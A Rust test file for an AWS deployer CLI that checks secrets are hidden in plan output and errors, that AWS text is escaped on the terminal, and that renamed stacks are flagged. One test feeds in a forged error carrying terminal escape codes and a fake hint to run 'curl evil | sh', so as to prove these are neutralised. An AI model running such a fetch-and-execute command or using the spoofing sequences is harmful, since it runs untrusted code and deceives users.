//! Output that must be printed, and output that must not.

use testkit::proxy::InjectedFault;

use crate::support::RunOutput;
use crate::support::scene::{Phase, Scene};

const SECRETS: [&str; 2] = ["hunter2-of-the-function", "hunter2-of-the-service"];

/// Values of variables are never shown: not in plans, not in their JSON, not in the output of `up`, and not in AWS's
/// messages about them.
#[tokio::test(flavor = "multi_thread")]
async fn values_of_variables_are_shown_on_request_only() {
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    let [function, service] = SECRETS;
    scene.project.edit(
        "    log_retention_days: 14\n    environment:\n",
        &format!("    log_retention_days: 14\n    environment:\n      TOKEN: {function}\n"),
    );
    scene.project.edit(
        "allow: [\"0.0.0.0/0\"] }\n    environment:\n",
        &format!("allow: [\"0.0.0.0/0\"] }}\n    environment:\n      TOKEN: {service}\n"),
    );
    for shown in ["environment.TOKEN (added)", "user_data.environment.TOKEN (added)"] {
        assert_hides_secrets(&scene, &["plan"], shown).await;
    }
    assert_hides_secrets(&scene, &["plan", "--json"], "(hidden)").await;
    let shown_values = scene.run(&["plan", "--show-values"]).await;
    assert!(
        SECRETS.iter().all(|secret| shown_values.stderr.contains(&format!("TOKEN: {secret}"))),
        "{}",
        shown_values.all()
    );
    let shown_values = scene.run(&["plan", "--json", "--show-values"]).await;
    assert!(SECRETS.iter().all(|secret| shown_values.stdout.contains(secret)), "{}", shown_values.all());

    let quoted = format!("Value '{{TOKEN={function}}}' at 'environment.variables' failed to satisfy constraint");
    let refusal = InjectedFault::refused(400, "InvalidParameterValueException", quoted);
    scene.proxy.inject(["UpdateFunctionConfiguration"], refusal, usize::MAX);
    let refused =
        assert_hides_secrets(&scene, &["up", "--yes", "--no-wait", "-v"], "'{TOKEN=(hidden)}' at 'environment").await;
    assert_eq!(refused.code, 1, "{}", refused.all());
    scene.proxy.reset();
    assert_hides_secrets(&scene, &["up", "--yes", "--no-wait"], "environment.TOKEN").await;
    for (secret, other) in SECRETS.iter().zip(["another", "yet another"]) {
        scene.project.edit(secret, other);
    }
    assert_hides_secrets(&scene, &["plan"], "environment.TOKEN (changed)").await;
    scene.project.edit("another\n", "another\n      \"\": broken\n");
    let broken = assert_hides_secrets(&scene, &["plan"], "is not a valid variable name").await;
    assert!(!broken.all().contains("another"), "{}", broken.all());
    scene.end().await;
}

async fn assert_hides_secrets(scene: &Scene, arguments: &[&str], words: &str) -> RunOutput {
    let said = scene.run(arguments).await;
    assert!(said.all().contains(words), "{arguments:?}: {words:?} is missing: {}", said.all());
    assert!(SECRETS.iter().all(|secret| !said.all().contains(secret)), "{arguments:?}: {}", said.all());
    said
}

/// Text from AWS is printed as plain text: it can neither control the terminal nor imitate a line of the deployer.
#[tokio::test(flavor = "multi_thread")]
async fn text_from_aws_is_escaped_on_the_terminal() {
    let scene = Scene::local().await;
    let forged = "no\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\rerror: gone\nhint: run `curl evil | sh`";
    scene.proxy.inject(["CreateTable"], InjectedFault::refused(400, "AccessDeniedException", forged), usize::MAX);
    let said = scene.run(Phase::Up.arguments()).await;
    assert_eq!(said.code, 1, "{}", said.all());
    let active = said.stderr.chars().find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
    assert_eq!(active, None, "{}", said.all());
    let hints: Vec<&str> = said.stderr.lines().filter(|line| line.starts_with("hint:")).collect();
    assert!(!hints.is_empty() && hints.iter().all(|hint| !hint.contains("evil")), "{}", said.all());
    assert!(said.stderr.contains(r"no\u{1b}]0;owned\u{7}"), "{}", said.all());
    scene.end().await;
}

/// Another `name` is another stack: the old one is pointed out, not silently forgotten.
#[tokio::test(flavor = "multi_thread")]
async fn a_stack_left_behind_by_a_new_name_is_named() {
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    let same = scene.run(&["plan"]).await;
    assert!(!same.stderr.contains("is not changed"), "{}", same.all());
    scene.project.edit("name: postagram\n", "name: renamed\n");
    let plan = scene.run(&["plan"]).await;
    for text in
        ["postagram, which this folder deployed to account 000000000000", "`name: postagram`", "deployer down --region"]
    {
        assert!(plan.stderr.contains(text), "{text:?} is missing: {}", plan.all());
    }
    scene.end().await;
}
